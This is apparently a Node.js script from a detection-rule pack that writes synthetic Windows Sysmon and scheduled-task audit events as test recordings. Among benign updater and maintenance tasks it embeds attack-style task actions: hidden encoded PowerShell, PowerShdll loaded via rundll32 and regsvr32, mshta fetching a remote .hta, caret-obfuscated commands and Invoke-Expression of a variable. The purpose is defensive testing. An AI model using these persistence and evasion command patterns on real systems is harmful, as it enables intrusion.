// Writes the pack's own recordings: Windows event XML made by us, field for field as Windows and Sysmon write it, one
// story per file. Deterministic: no clock, no chance. Usage: node build/make-recordings.js
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const folder = join(import.meta.dirname, '../strategies/recordings');
const NAMESPACE = 'http://schemas.microsoft.com/win/2004/08/events/event';
const DOMAIN_SID = 'S-1-5-21-1688412077-2871456391-938127544';

const escape = (text) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const sha1 = (text) => createHash('sha1').update(text).digest('hex');
const time = (text, ticks = 1234567) => `${text}.${String(ticks).padStart(7, '0')}Z`;

let record = 48_210;

/** One event as the log's XML. `data` is a list of name and value; a null value is an empty element. */
function event(
  { provider, guid, id, version, level = 0, task, keywords, at, channel, computer, pid, tid, user },
  data,
) {
  record += 1;
  const system = [
    `<Provider Name='${provider}' Guid='${guid}'/>`,
    `<EventID>${id}</EventID><Version>${version}</Version><Level>${level}</Level><Task>${task}</Task><Opcode>0</Opcode>`,
    `<Keywords>${keywords}</Keywords><TimeCreated SystemTime='${at}'/><EventRecordID>${record}</EventRecordID><Correlation/>`,
    `<Execution ProcessID='${pid}' ThreadID='${tid}'/><Channel>${channel}</Channel><Computer>${computer}</Computer>`,
    user ? `<Security UserID='${user}'/>` : '<Security/>',
  ].join('');
  const values = data.map(([name, value]) =>
    value === null ? `<Data Name='${name}'/>` : `<Data Name='${name}'>${escape(value)}</Data>`,
  );
  return `<Event xmlns='${NAMESPACE}'><System>${system}</System><EventData>${values.join('')}</EventData></Event>`;
}

/** Sysmon 1. */
function processCreated({
  host,
  at,
  image,
  commandLine,
  parentImage,
  parentCommandLine,
  user = 'NT AUTHORITY\\SYSTEM',
  binary = image,
  company = '-',
}) {
  const computer = `${host}.corp.example`;
  const pid = 4000 + (record % 3000);
  const hash = sha1(binary.toLowerCase()).toUpperCase();
  return event(
    {
      provider: 'Microsoft-Windows-Sysmon',
      guid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
      id: 1,
      version: 5,
      level: 4,
      task: 1,
      keywords: '0x8000000000000000',
      at,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer,
      pid: 3180,
      tid: 4072,
      user: 'S-1-5-18',
    },
    [
      ['RuleName', '-'],
      ['UtcTime', at.replace('T', ' ').slice(0, 23)],
      [
        'ProcessGuid',
        `{b5f1a7c2-${sha1(at + image).slice(0, 4)}-6710-${sha1(image).slice(0, 4)}-000000003500}`,
      ],
      ['ProcessId', String(pid)],
      ['Image', image],
      ['FileVersion', '-'],
      ['Description', '-'],
      ['Product', '-'],
      ['Company', company],
      ['OriginalFileName', '-'],
      ['CommandLine', commandLine],
      ['CurrentDirectory', 'C:\\Windows\\system32\\'],
      ['User', user],
      ['LogonGuid', '{b5f1a7c2-9a01-6710-e703-000000000000}'],
      ['LogonId', '0x3e7'],
      ['TerminalSessionId', '0'],
      ['IntegrityLevel', 'System'],
      [
        'Hashes',
        `SHA1=${hash},MD5=${hash.slice(0, 32)},SHA256=${hash}${hash.slice(0, 24)},IMPHASH=${hash.slice(8)}`,
      ],
      ['ParentProcessGuid', '{b5f1a7c2-9a01-6710-2a00-000000003500}'],
      ['ParentProcessId', '1344'],
      ['ParentImage', parentImage],
      ['ParentCommandLine', parentCommandLine],
      ['ParentUser', 'NT AUTHORITY\\SYSTEM'],
    ],
  );
}

const SCHEDULER = {
  parentImage: 'C:\\Windows\\System32\\svchost.exe',
  parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
};
const scheduled = (more) => processCreated({ ...SCHEDULER, ...more });

const CHANGES = { created: 4698, deleted: 4699, enabled: 4700, disabled: 4701, updated: 4702 };

/** 4698 to 4702 in their version 1. `actions` is the inside of `<Actions>`. */
function taskAudit({
  change,
  host,
  at,
  account,
  sid,
  domain = 'CORP',
  logonId = '0x8f31c',
  task,
  actions,
  author = `${domain}\\${account}`,
  description,
  cutAt = Infinity,
}) {
  const id = CHANGES[change];
  const computer = `${host}.corp.example`;
  const registration = [
    `<Date>${at.slice(0, 19)}</Date>`,
    `<Author>${escape(author)}</Author>`,
    description ? `<Description>${escape(description)}</Description>` : '',
    `<URI>${escape(task)}</URI>`,
  ].filter(Boolean);
  const definition = [
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
    '  <RegistrationInfo>',
    ...registration.map((line) => `    ${line}`),
    '  </RegistrationInfo>',
    '  <Triggers>',
    '    <CalendarTrigger>',
    '      <StartBoundary>2026-03-02T08:30:00</StartBoundary>',
    '      <Enabled>true</Enabled>',
    '      <ScheduleByDay>',
    '        <DaysInterval>1</DaysInterval>',
    '      </ScheduleByDay>',
    '    </CalendarTrigger>',
    '  </Triggers>',
    '  <Principals>',
    '    <Principal id="Author">',
    '      <RunLevel>LeastPrivilege</RunLevel>',
    `      <UserId>${escape(author)}</UserId>`,
    '      <LogonType>InteractiveToken</LogonType>',
    '    </Principal>',
    '  </Principals>',
    '  <Settings>',
    '    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>',
    '    <Enabled>true</Enabled>',
    '    <Hidden>false</Hidden>',
    '  </Settings>',
    '  <Actions Context="Author">',
    ...actions.map((line) => `    ${line}`),
    '  </Actions>',
    '</Task>',
  ].join('\r\n');
  return event(
    {
      provider: 'Microsoft-Windows-Security-Auditing',
      guid: '{54849625-5478-4994-a5ba-3e3b0328c30d}',
      id,
      version: 1,
      task: 12804,
      keywords: '0x8020000000000000',
      at,
      channel: 'Security',
      computer,
      pid: 820,
      tid: 5016,
    },
    [
      ['SubjectUserSid', sid],
      ['SubjectUserName', account],
      ['SubjectDomainName', domain],
      ['SubjectLogonId', logonId],
      ['TaskName', task],
      [change === 'updated' ? 'TaskContentNew' : 'TaskContent', definition.slice(0, cutAt)],
      ['ClientProcessStartKey', '4222124650660162'],
      ['ClientProcessId', '7208'],
      ['ParentProcessId', '5120'],
      ['RpcCallClientLocality', '0'],
      ['FQDN', computer],
    ],
  );
}

const exec = (command, args) => [
  '<Exec>',
  `  <Command>${escape(command)}</Command>`,
  ...(args === undefined ? [] : [`  <Arguments>${escape(args)}</Arguments>`]),
  '</Exec>',
];
const keller = { account: 'm.keller', sid: `${DOMAIN_SID}-1147`, host: 'ws-014' };
const machine = (host) => ({
  account: `${host.toUpperCase()}$`,
  sid: 'S-1-5-18',
  logonId: '0x3e7',
  author: 'Microsoft Corporation',
  host,
});

const taskhost = (host, at) =>
  scheduled({
    host,
    at,
    image: 'C:\\Windows\\System32\\taskhostw.exe',
    commandLine: 'taskhostw.exe Logon',
    company: 'Microsoft Corporation',
  });
const implant = 'C:\\ProgramData\\Lenovo\\ImController\\lnvsvc.exe';
const updater = 'C:\\Program Files\\Northwind\\Updater\\nwupdate.exe';
const agent = 'C:\\Program Files\\Contoso\\Agent\\inventory.exe';
const update = (host, at) =>
  scheduled({
    host,
    at,
    image: updater,
    commandLine: `"${updater}" /silent`,
    company: 'Northwind Traders',
  });
const week = [
  '2026-02-23',
  '2026-02-24',
  '2026-02-25',
  '2026-02-26',
  '2026-02-27',
  '2026-02-28',
  '2026-03-01',
  '2026-03-02',
];
const hosts = [
  'ws-011',
  'ws-012',
  'ws-013',
  'ws-014',
  'ws-015',
  'ws-016',
  'ws-017',
  'ws-018',
  'ws-019',
];

const background = () =>
  week.flatMap((day) =>
    ['ws-011', 'ws-014'].flatMap((host) => [
      taskhost(host, time(`${day}T07:58:11`)),
      update(host, time(`${day}T09:15:04`)),
    ]),
  );

// An encoded command that prints one word.
const encoded = Buffer.from("Write-Host 'stratagem'", 'utf16le').toString('base64');

/** File name to the function that makes its events, oldest first. */
const recordings = {
  'rare-binary.xml': () => [
    ...background(),
    scheduled({
      host: 'ws-014',
      at: time('2026-03-02T10:02:37', 4410093),
      image: implant,
      commandLine: implant,
      binary: 'lnvsvc 1',
    }),
  ],
  'rare-binary-mixed-case.xml': () => [
    ...background(),
    processCreated({
      parentImage: 'C:\\WINDOWS\\system32\\SVCHOST.EXE',
      parentCommandLine: 'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule',
      host: 'WS-014',
      at: time('2026-03-02T10:02:37', 4410093),
      image: implant.toUpperCase(),
      commandLine: `"${implant}"`,
      binary: 'lnvsvc 1',
    }),
  ],
  'known-updater.xml': background,
  'software-rollout.xml': () => [
    ...background(),
    ...hosts.map((host, at) =>
      scheduled({
        host,
        at: time(`2026-03-02T01:0${at}:30`),
        image: agent,
        commandLine: `"${agent}" --first-run`,
        company: 'Contoso',
      }),
    ),
  ],
  'rare-binary-by-hand.xml': () => [
    ...background(),
    processCreated({
      host: 'ws-014',
      at: time('2026-03-02T10:02:37'),
      image: implant,
      commandLine: implant,
      binary: 'lnvsvc 1',
      user: 'CORP\\m.keller',
      parentImage: 'C:\\Windows\\explorer.exe',
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
    }),
  ],
  'task-encoded-powershell.xml': () => [
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T10:14:52'),
      task: '\\OneDriveSync',
      actions: exec('powershell.exe', `-NoP -W Hidden -enc ${encoded}`),
    }),
  ],
  'task-powershdll.xml': () => [
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T10:20:01'),
      task: '\\a',
      actions: exec('"C:\\Windows\\System32\\RUNDLL32.EXE"', 'PowerShdll.dll,main -w'),
    }),
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T10:20:11'),
      task: '\\b',
      actions: exec(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegSvcs.exe',
        'POWERSHDLL.DLL',
      ),
    }),
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T10:20:21'),
      task: '\\c',
      actions: exec('regasm', '/U powershdll.dll'),
    }),
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T10:20:31'),
      task: '\\d',
      actions: exec('REGSVR32', '/s "PowerShdll.dll"'),
    }),
  ],
  'task-several-actions.xml': () => [
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T11:00:00'),
      task: '\\Northwind report',
      actions: [
        ...exec('C:\\Program Files\\Northwind\\Report\\report.exe', '/daily'),
        ...exec('C:\\Program Files\\Northwind\\Report\\mail.exe'),
        ...exec('wscript.exe', '//B "C:\\Users\\m.keller\\AppData\\Local\\Temp\\r.vbs"'),
      ],
    }),
  ],
  'task-changed.xml': () => [
    taskAudit({
      ...keller,
      change: 'updated',
      at: time('2026-03-02T11:30:00'),
      task: '\\Northwind\\Nightly',
      actions: exec('mshta.exe', 'https://cdn.northwind-update.example/n.hta'),
    }),
  ],
  'task-evasive-spelling.xml': () => [
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T12:00:00'),
      task: '\\e1',
      actions: exec('%ComSpec%', '/c p^ow^ers^hell -e^n^c ' + encoded),
    }),
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T12:00:10'),
      task: '\\e2',
      actions: exec(
        '%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\"PowerShell"',
        '-c "& { Invoke-Expression $env:PAYLOAD }"',
      ),
    }),
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T12:00:20'),
      task: '\\e3',
      actions: exec('c:/windows/system32/CSCRIPT.exe', '/e:jscript c:\\perflogs\\a.txt'),
    }),
  ],
  // Windows keeps some 3,800 characters of a definition.
  'task-cut-off.xml': () => [
    taskAudit({
      ...keller,
      change: 'updated',
      at: time('2026-03-02T13:00:00'),
      task: '\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager',
      actions: exec('powershell', `-noP -sta -w 1 -enc  ${encoded.repeat(120)}`),
      cutAt: 3800,
    }),
  ],
  'task-benign-maintenance.xml': () => [
    taskAudit({
      ...machine('ws-014'),
      change: 'updated',
      at: time('2026-03-02T03:11:08'),
      task: '\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan',
      actions: exec('%systemroot%\\system32\\usoclient.exe', 'StartScan'),
    }),
    taskAudit({
      ...machine('ws-014'),
      change: 'updated',
      at: time('2026-03-02T03:14:40'),
      task: '\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask',
      actions: [
        '<ComHandler>',
        '  <ClassId>{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}</ClassId>',
        '  <Data>timer</Data>',
        '</ComHandler>',
      ],
    }),
    taskAudit({
      ...machine('ws-014'),
      change: 'enabled',
      at: time('2026-03-02T03:15:00'),
      task: '\\Microsoft\\Windows\\Application Experience\\StartupAppTask',
      actions: exec('%windir%\\system32\\rundll32.exe', 'Startupscan.dll,SusRunTask'),
    }),
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T08:31:22'),
      task: '\\OneDrive Standalone Update Task',
      actions: exec('%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe'),
    }),
    taskAudit({
      ...machine('ws-014'),
      change: 'created',
      at: time('2026-03-02T08:40:00'),
      task: '\\NorthwindUpdateTaskMachine',
      author: 'Northwind Traders',
      actions: exec(updater, '/silent'),
    }),
  ],
  'task-benign-words.xml': () => [
    taskAudit({
      ...keller,
      change: 'created',
      at: time('2026-03-02T09:00:00'),
      task: '\\PowerShell course reminder',
      description:
        'Opens the notes of the powershell.exe -enc lesson; see mshta.exe and rundll32 too',
      actions: exec('C:\\Windows\\System32\\notepad.exe', '"D:\\courses\\powershell notes.txt"'),
    }),
  ],
};

/** What Defender knows of the files above: the side table that FileProfile() reads. */
const profile = (binary, more) => ({ SHA1: sha1(binary.toLowerCase()), ...more });
const profiles = [
  profile('C:\\Windows\\System32\\taskhostw.exe', {
    GlobalPrevalence: 1_400_000_000,
    GlobalFirstSeen: '2024-05-14T00:00:00Z',
    Signer: 'Microsoft Windows',
    Issuer: 'Microsoft Windows Production PCA 2011',
    SignatureState: 'SignedValid',
    IsCertificateValid: true,
    IsRootSignerMicrosoft: true,
    ProfileAvailability: 'Available',
  }),
  profile(updater, {
    GlobalPrevalence: 812_000,
    GlobalFirstSeen: '2025-11-02T00:00:00Z',
    Signer: 'Northwind Traders',
    Issuer: 'Example Code Signing CA',
    SignatureState: 'SignedValid',
    IsCertificateValid: true,
    IsRootSignerMicrosoft: false,
    ProfileAvailability: 'Available',
  }),
  profile(agent, {
    GlobalPrevalence: 45_300,
    GlobalFirstSeen: '2026-02-20T00:00:00Z',
    Signer: 'Contoso',
    Issuer: 'Example Code Signing CA',
    SignatureState: 'SignedValid',
    IsCertificateValid: true,
    IsRootSignerMicrosoft: false,
    ProfileAvailability: 'Available',
  }),
  profile('lnvsvc 1', {
    GlobalPrevalence: 3,
    GlobalFirstSeen: '2026-03-02T06:12:00Z',
    Signer: '',
    Issuer: '',
    SignatureState: 'Unsigned',
    IsCertificateValid: false,
    IsRootSignerMicrosoft: false,
    ProfileAvailability: 'Available',
  }),
];

mkdirSync(folder, { recursive: true });
for (const [name, events] of Object.entries(recordings)) {
  record = 48_210;
  writeFileSync(join(folder, name), `${events().join('\n')}\n`);
}
writeFileSync(join(folder, 'file-profiles.json'), `${JSON.stringify(profiles, undefined, 2)}\n`);
console.log(
  `${Object.keys(recordings).length} recordings in strategies/recordings; lnvsvc.exe is ${sha1('lnvsvc 1')}`,
);
